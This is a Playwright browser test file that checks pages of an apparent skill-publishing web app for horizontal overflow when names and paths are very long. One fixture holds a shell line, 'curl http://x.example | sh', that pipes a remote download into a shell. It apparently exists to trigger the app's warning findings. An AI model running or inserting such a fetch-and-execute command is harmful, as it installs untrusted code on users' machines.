"""Names, paths and words that are as long as they may be: nothing leaves the window."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from catalog.models import Version
from tests import make
from tests.browser.conftest import OpenPage
from tests.make import Cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
WIDTHS = (1440, 390)
LONG = "a" * 64
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"
# What sticks out of the window on the right, but for what scrolls by itself.
BEYOND = """() => [...document.querySelectorAll("main *")]
  .filter(one => !one.closest("thead, .scroll, .tabs, pre, .diff-split, .editor, .vh, .segment"))
  .filter(one => one.getBoundingClientRect().right > innerWidth + 1)
  .map(one => `${one.tagName}.${one.className}`)"""


@pytest.fixture
def cast() -> Cast:
    return make.cast()


@pytest.mark.parametrize("width", WIDTHS)
def test_nothing_long_leaves_the_window(open_page: OpenPage, cast: Cast, width: int) -> None:
    files = {f"scripts/{'b' * 120}.sh": SCRIPT}
    for number in ("1.0.0", "1.1.0"):
        make.version(LONG, number, cast=cast, files={**files, f"assets/{number}{'c' * 90}.txt": b"c" * 300})
    finding = Version.objects.all()[0].findings.filter(severity="warning")[0]
    base = f"/skills/{LONG}/"
    page = open_page("/publish/", user=cast.ines, width=width)
    content = make.skill_md(LONG, version="2.0.0", body=f"See [x](references/{'n' * 150}.md).\n")
    page.set_input_files("#id_file", {"name": "SKILL.md", "mimeType": "text/markdown", "buffer": content})
    expect(page.get_by_role("button", name="2.0.0")).to_be_visible()
    assert page.evaluate(BEYOND) == []
    for address in (
        base,
        f"{base}files/",
        f"{base}versions/",
        f"{base}versions/1.0.0/",
        f"{base}versions/1.0.0/edit/",
        f"{base}versions/1.0.0/yank/",
        f"{base}versions/{finding.version.version}/findings/{finding.fingerprint}/appeal/",
        f"{base}compare/",
        f"{base}settings/",
        f"{base}releases/propose/",
        "/",
    ):
        page.goto(address)
        assert page.evaluate(BEYOND) == [], address
